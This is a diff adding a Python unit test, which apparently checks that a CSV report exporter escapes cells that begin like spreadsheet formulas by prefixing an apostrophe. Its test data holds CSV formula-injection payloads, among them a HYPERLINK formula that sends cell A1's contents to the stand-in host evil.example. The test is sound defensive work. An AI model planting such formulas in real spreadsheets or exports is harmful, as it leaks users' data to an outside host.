@@ -146,3 +146,19 @@ def test_csv_and_json_keep_every_column_under_its_title():
     csv_line = render([violation()], "csv", "violations").splitlines()[1]
     assert csv_line.startswith("LATE_RESPONSE,HCM-2024-0901,C1,STNMT,stnmt.ltb,2024-09-09,2,closed,False,,")
     assert json.loads(render([violation()], "json", "violations")) == [violation()]
+
+
+def test_a_csv_cell_that_starts_like_a_formula_is_written_as_text_for_spreadsheets():
+    import csv as csv_module
+    import io
+
+    from ledger.reports.formats import REPORTS, to_csv
+
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1"]
+    rows = [{"rule": "NO_LEAD", "case": value, "consultation": None, "agency": "SXD", "official": None,
+             "due": "2024-01-02", "days_late": -1, "status": "open", "deemed_consent": False, "finding": None,
+             "clause": "", "evidence": [], "message_vi": "", "message_en": ""} for value in hostile]
+    read = list(csv_module.DictReader(io.StringIO(to_csv(rows, REPORTS["violations"]), newline="")))
+    cases = [row[next(k for k in row if "case" in k.lower())] for row in read]
+    assert cases == ["'" + value for value in hostile]
+    assert {row[next(k for k in row if "days" in k.lower())] for row in read} == {"-1"}  # numbers stay numbers
